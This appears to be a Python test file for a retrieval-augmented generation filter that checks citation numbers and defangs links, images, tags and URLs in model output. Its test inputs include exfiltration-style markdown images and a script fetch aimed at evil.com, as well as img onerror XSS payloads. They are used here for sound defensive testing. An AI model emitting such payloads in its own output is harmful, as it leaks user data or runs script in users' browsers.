"""Citation filtering and link neutralising: cases, streaming hold-back, hypothesis properties."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from appliance.rag.cite import CitationFilter, validate

# --- citations ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text,n,expected,cited",
    [
        ("Revenue rose [1]. Costs fell [2].", 3, "Revenue rose [1]. Costs fell [2].", [1, 2]),
        ("Revenue rose [7].", 3, "Revenue rose.", []),
        ("Revenue rose [1, 7].", 3, "Revenue rose [1].", [1]),
        ("Rose [2][1] and fell [2].", 3, "Rose [2][1] and fell [2].", [2, 1]),
        ("收入增长【1】，成本下降［2］。", 3, "收入增长[1]，成本下降[2]。", [1, 2]),
        ("Both [1,2] and [2, 3] and [1、3].", 3, "Both [1][2] and [2][3] and [1][3].", [1, 2, 3]),
        ("See [1-3].", 3, "See [1][2][3].", [1, 2, 3]),
        ("See [Source 2] and [source: 1] and [来源3].", 3, "See [2] and [1] and [3].", [2, 1, 3]),
        ("Founded [2019] here.", 3, "Founded here.", []),
        ("None [0] and [4] and [1].", 3, "None and and [1].", [1]),
        ("Any [1] at all.", 0, "Any at all.", []),
        ("Glued[9]word and [9], and (see [9]).", 3, "Glued word and, and (see).", []),
        ("array [1] ok", 1, "array [1] ok", [1]),
    ],
)
def test_citations(text: str, n: int, expected: str, cited: list[int]) -> None:
    assert validate(text, n) == (expected, cited)


# --- links, images, tags and addresses ------------------------------------------------------


@pytest.mark.parametrize(
    "text,expected",
    [
        ("![logo](https://evil.com/x.png?q=secret) text", "logo text"),
        ("![](http://evil.com/t.gif)Hi", "Hi"),
        ("Read [the guide](https://intranet.example.com/guide) now.", "Read the guide now."),
        ('A [t](http://x.com "title") b', "A t b"),
        ("[1](https://evil.com)", "[1]"),
        ("请参见[指南](http://x.com)。", "请参见指南。"),
        ('<img src="https://evil.com/p.png" onerror="alert(1)">Hi', "Hi"),
        ("Click <a href='http://x.com'>here</a> now", "Click here now"),
        ("<script>fetch('//evil.com')</script>done", "fetch('//evil[.]com')done"),
        ('<iframe src="https://evil.com"></iframe>Ok', "Ok"),
        ("Visit https://example.com/path. Then", "Visit hxxps://example[.]com/path. Then"),
        ("HTTP://A.B.COM/x", "hxxp://A[.]B[.]COM/x"),
        ("Get ftp://files.example.org/a now", "Get fxp://files[.]example[.]org/a now"),
        ("From //cdn.evil.com/x.js", "From //cdn[.]evil[.]com/x.js"),
        ("See https://a.com/d/r.pdf?x=1#p", "See hxxps://a[.]com/d/r[.]pdf?x=1#p"),
        ("Go to www.evil.com today", "Go to www[.]evil[.]com today"),
        ("data:image/png;base64,AAAA", "data[:]image/png;base64,AAAA"),
        ("<https://auto.link/x>", "hxxps://auto[.]link/x"),
        ("h<b>ttps://evil.com", "h ttps[:]//evil[.]com"),
        ("http://http://evil.com", "hxxp://http[:]//evil[.]com"),
        ("[<i>7]", "[ 7]"),
        ("[![a](b)](c)", "[ a ] (c)"),
        ("x < y and a > b; <5%", "x < y and a > b; <5%"),
        ("Hi <img src=x onerror=alert(1) ", "Hi ＜img src=x onerror=alert(1) "),
        ("The data: it grew. A/B tests // notes", "The data: it grew. A/B tests // notes"),
    ],
)
def test_links_and_addresses_are_neutralised(text: str, expected: str) -> None:
    assert validate(text, 3)[0] == expected


def test_table_and_markdown_survive() -> None:
    text = "| City | Rate |\n| --- | --- |\n| Oslo | 145 [1] |\n\n**Bold** and `code` and *it*."
    assert validate(text, 1) == (text, [1])


# --- streaming ------------------------------------------------------------------------------


def test_feed_holds_back_incomplete_markers() -> None:
    f = CitationFilter(12)
    assert f.feed("Revenue rose [1") == "Revenue rose"
    assert f.feed("2") == ""
    assert f.feed("]. Costs") == " [12]. Costs"
    assert f.cited == [12]
    assert f.feed(" fell [4") == " fell"
    assert f.feed("0].") == ""  # dropped; the "." decides the spacing and waits for more
    assert f.finish() == "."
    assert f.cited == [12]


def test_feed_holds_back_links_images_tags_and_urls() -> None:
    f = CitationFilter(3)
    out = f.feed("See ![alt](https://evil.com/a")
    assert "evil" not in out and "!" not in out
    out += f.feed(".png) and <img sr")
    assert "<img" not in out
    out += f.feed("c=x> and https://exa")
    assert "https" not in out
    out += f.feed("mple.com/x done") + f.finish()
    assert out == "See alt and and hxxps://example[.]com/x done"


def test_finish_flushes_an_unfinished_construct() -> None:
    f = CitationFilter(3)
    assert f.feed("Unclosed [1") == "Unclosed"
    assert f.finish() == " [1"  # not a marker after all: shown as written
    g = CitationFilter(3)
    assert g.feed("An address https://x.co") == "An address "
    assert g.finish() == "hxxps://x[.]co"


PIECES = [
    "[",
    "]",
    "(",
    ")",
    "1",
    "2",
    "7",
    "12",
    ",",
    " ",
    "  ",
    "\n",
    "【",
    "】",
    "［",
    "］",
    "!",
    "<",
    ">",
    "/",
    "img",
    "a",
    "b",
    " src=",
    "script",
    "http",
    "https",
    "://",
    "ftp",
    "www",
    ".",
    "com",
    "data",
    ":",
    "image/png;",
    "Source",
    "-",
    "收入",
    "。",
    "Revenue",
    "h",
    "t",
    "x",
    "&",
    '"',
]
_TEXT = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)


def _split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({c % (len(text) + 1) for c in cuts})
    return [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]


@settings(max_examples=400, deadline=None)
@given(text=_TEXT, cuts=st.lists(st.integers(0, 10_000), max_size=12), n=st.integers(0, 12))
@example(text="see [1](http://x.com) [7] www.a.com", cuts=[5, 6, 9, 15, 27], n=3)
def test_any_split_gives_the_one_shot_result(text: str, cuts: list[int], n: int) -> None:
    f = CitationFilter(n)
    streamed = "".join(f.feed(piece) for piece in _split(text, cuts)) + f.finish()
    assert (streamed, f.cited) == validate(text, n)


@settings(max_examples=400, deadline=None)
@given(text=_TEXT, n=st.integers(0, 12))
@example(text="http://image/png;http://", n=0)  # an address running on inside another's path
@example(text="http://x/data:image/png;base64,AAAA", n=0)
def test_output_holds_only_valid_citations_and_no_live_links(text: str, n: int) -> None:
    out, cited = validate(text, n)
    numbers = [int(k) for k in re.findall(r"\[(\d+)\]", out)]
    assert all(1 <= k <= n for k in numbers)
    assert cited == list(dict.fromkeys(numbers))
    lowered = out.lower()
    for live in ("http://", "https://", "ftp://", "](", "<img", "<a ", "<script", "data:image"):
        assert live not in lowered
    assert not re.search(r"www\.[a-z0-9-]+\.", lowered)
    assert not re.search(r"//[a-z0-9-]+\.[a-z]", lowered)
